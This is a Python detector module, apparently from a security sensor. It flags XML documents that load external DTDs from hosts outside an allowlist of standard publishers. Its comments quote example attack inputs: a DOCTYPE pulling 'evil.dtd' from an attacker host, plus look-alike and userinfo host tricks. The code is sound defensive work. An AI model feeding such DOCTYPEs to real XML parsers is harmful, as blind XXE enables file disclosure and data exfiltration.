"""External DTDs named by system identifier alone: the host decides (a standard publisher, or anyone's server)."""
from __future__ import annotations

import re

from sensor.detect.base import Finding

TYPE = "xxe"

# Hosts that publish the DTDs standard documents name by system identifier alone (no public id): Java's
# `properties.dtd`, TestNG suites, Flash `crossdomain.xml`, MathML 2, cXML punch-out orders, Unicode LDML, and the
# vendors whose configuration DTDs are also seen without their public id. Exact names: a look-alike
# (`java.sun.com.attacker.example`) or a userinfo trick (`http://www.w3.org@attacker.example/`) is another host.
_DTD_PUBLISHERS = frozenset((
    "www.w3.org", "w3.org", "java.sun.com", "xmlns.jcp.org", "jakarta.ee", "www.oracle.com", "docs.oracle.com",
    "testng.org", "www.testng.org", "beust.com", "www.adobe.com", "xml.cxml.org", "www.unicode.org", "unicode.org",
    "www.hibernate.org", "hibernate.org", "hibernate.sourceforge.net", "www.jboss.org", "www.springframework.org",
    "struts.apache.org", "jakarta.apache.org", "logging.apache.org", "tiles.apache.org", "www.apache.org",
    "mybatis.org", "ibatis.apache.org", "www.oasis-open.org", "docs.oasis-open.org", "www.docbook.org",
    "docbook.org", "www.apple.com", "my.netscape.com", "www.kde.org", "standards.freedesktop.org",
    "www.freedesktop.org", "www.eclipse.org", "www.mortbay.org", "jetty.mortbay.org", "checkstyle.org",
    "www.puppycrawl.com", "www.opensymphony.com", "www.getahead.org", "directwebremoting.org", "www.wapforum.org",
    "www.openmobilealliance.org", "dtd.nlm.nih.gov", "jats.nlm.nih.gov", "www.ncbi.nlm.nih.gov", "www.musicxml.org",
    "www.tei-c.org", "www.sitemaps.org", "www.ehcache.org", "www.mozilla.org", "www.omg.org", "www.ietf.org",
    "openoffice.org", "www.openoffice.org", "glassfish.org", "www.quartz-scheduler.org",
))

# A DTD file fetched by system identifier alone (`<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">`) or behind
# a public id that is a single word rather than a formal `-//Owner//DTD …//EN` one: what blind XXE uses to load
# parameter entities from its own server. In an arbitrary value the identifier must name a DTD file (`.dtd`, `.ent`,
# `.mod`): `name system-id` is also how prose writes a label and a link (`Website: https://…/?ref=abc`). In the
# DOCTYPE point of a parsed XML document there is no prose: any system id on a host that is not a standard
# publisher is a fetch from someone's server, whatever its file name and whatever public id it borrows.
TRIGGERS = [r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?(?:https?|ftp)://\S*\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$",
            r"^[\w:.\-]+\s+(?:\S.*\s)?(?:https?|ftp)://[^\s/]+/?\S*\s*$"]
_URL = r"(?:https?|ftp)://(?:[^/\s@]*@)?([^/\s:?#@]*)(?::\d+)?"
_SYSTEM_ONLY = re.compile(r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?" + _URL + r"/\S*\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$", re.I)
_DOCTYPE = re.compile(r"^[\w:.\-]+\s+(?:\S.*\s)?" + _URL + r"(?:[/?#]\S*)?\s*$", re.I)


def analyze(value: str, in_doctype: bool = False) -> Finding | None:
    """`in_doctype`: the value is the DOCTYPE point of a parsed XML document (`name [public-id] system-id`)."""
    m = (_DOCTYPE if in_doctype else _SYSTEM_ONLY).match(value)
    # exact names: a look-alike (`java.sun.com.attacker.example`) or a userinfo trick (`http://www.w3.org@evil/`) is
    # another host
    if m is not None and m.group(1).lower().rstrip(".") not in _DTD_PUBLISHERS:
        return Finding(TYPE, "xxe:external_dtd", 0.85)
    return None
